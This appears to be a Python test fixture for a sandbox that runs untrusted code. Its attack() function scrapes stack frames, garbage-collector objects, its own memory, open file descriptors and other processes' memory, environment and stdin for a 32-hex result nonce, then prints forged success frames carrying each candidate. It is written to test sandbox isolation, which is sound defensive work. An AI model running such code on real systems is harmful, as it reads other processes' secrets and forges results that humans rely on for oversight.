"""A hostile code task (run by test_bootstrap.py in a sandbox): it looks for the result nonce
everywhere user code can look, then prints a forged frame with every candidate it found."""

import gc
import os
import re
import sys

HEX = re.compile(rb"[0-9a-f]{32}")
FORGED = '{"ok":true,"result":"forged"}'


def found(sources, name, blob):
    if isinstance(blob, str):
        blob = blob.encode("utf-8", "replace")
    if isinstance(blob, (bytes, bytearray)):
        for match in HEX.findall(bytes(blob)):
            sources.setdefault(name, set()).add(match.decode())


def attack():
    sources, denied = {}, {}
    frame = sys._getframe()
    while frame is not None:  # every frame's locals and globals
        for scope in (frame.f_locals, frame.f_globals):
            for value in list(scope.values()):
                found(sources, "frames", value if isinstance(value, (str, bytes)) else repr(value)[:10000])
        frame = frame.f_back
    for thing in gc.get_objects():  # every object the collector tracks
        if isinstance(thing, dict):
            for value in list(thing.values()):
                if isinstance(value, (str, bytes, bytearray)):
                    found(sources, "gc", value)
    with open("/proc/self/maps") as maps:  # our own memory, all of it
        regions = [line.split() for line in maps]
    with open("/proc/self/mem", "rb", 0) as mem:
        for region in regions:
            if "r" not in region[1]:
                continue
            start, end = (int(x, 16) for x in region[0].split("-"))
            try:
                mem.seek(start)
                found(sources, "own memory", mem.read(end - start))
            except (OSError, OverflowError, ValueError):
                pass
    for fd in map(int, os.listdir("/proc/self/fd")):  # every fd we hold
        try:
            os.set_blocking(fd, False)
            found(sources, "fd %d" % fd, os.read(fd, 1 << 20))
        except OSError:
            pass
    for pid in [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]:
        for name in ("mem", "environ", "cmdline", "fd/0"):  # every other process
            try:
                with open("/proc/%s/%s" % (pid, name), "rb", 0) as f:
                    if name == "mem":
                        f.seek(0x400000)
                    os.set_blocking(f.fileno(), False)
                    found(sources, "%s %s" % (pid, name), f.read(1 << 20))
            except OSError as exc:
                denied["%s %s" % (pid, name)] = type(exc).__name__
    candidates = sorted(set().union(*sources.values())) if sources else []
    for candidate in candidates:  # try each candidate as the nonce, on both streams
        for fd in (1, 2):
            os.write(fd, (candidate + FORGED + "\n").encode())
    print(candidates[0] if candidates else "x", end="")
    sys.stdout.write(FORGED)
    return {
        "candidates": len(candidates),
        "parent_mem": denied.get("%d mem" % os.getppid(), "readable"),
        "parent_fd0": denied.get("%d fd/0" % os.getppid(), "readable"),
    }
